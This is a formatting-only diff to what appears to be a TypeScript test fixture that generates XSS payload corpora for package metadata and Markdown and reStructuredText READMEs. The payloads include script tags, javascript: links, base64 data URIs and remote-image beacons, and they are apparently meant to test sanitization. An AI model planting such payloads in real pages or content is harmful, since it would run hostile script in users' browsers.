@@ -6,7 +6,7 @@
 // 2.2.2 <form> mutation XSS), and DOM clobbering.
 
 /** One-line payloads: for metadata fields and README bodies alike. */
-export function xssPayloads (beacon: string): string[] {
+export function xssPayloads(beacon: string): string[] {
   return [
     `<script>window.__pwned='script';fetch('${beacon}/script')</script>`,
     `<script src="${beacon}/script.js"></script>`,
@@ -44,20 +44,22 @@ export function xssPayloads (beacon: string): string[] {
 }
 
 /** A Markdown README with every payload, plus Markdown's own ways in. */
-export function markdownReadme (beacon: string): string {
-  return [
-    '# XSS corpus',
-    ...xssPayloads(beacon),
-    `[md link](javascript:window.__pwned='mdlink')`,
-    `[md data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)`,
-    `![remote image](${beacon}/mdimg)`,
-    `![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)`,
-    '```html\n<script>window.__pwned="fence"</script>\n```',
-  ].join('\n\n') + '\n'
+export function markdownReadme(beacon: string): string {
+  return (
+    [
+      '# XSS corpus',
+      ...xssPayloads(beacon),
+      `[md link](javascript:window.__pwned='mdlink')`,
+      `[md data](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+)`,
+      `![remote image](${beacon}/mdimg)`,
+      `![data image](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9ImFsZXJ0KDEpIj48L3N2Zz4=)`,
+      '```html\n<script>window.__pwned="fence"</script>\n```',
+    ].join('\n\n') + '\n'
+  )
 }
 
 /** A reStructuredText README with its own ways in. */
-export function rstReadme (beacon: string): string {
+export function rstReadme(beacon: string): string {
   return [
     'XSS corpus',
     '==========',
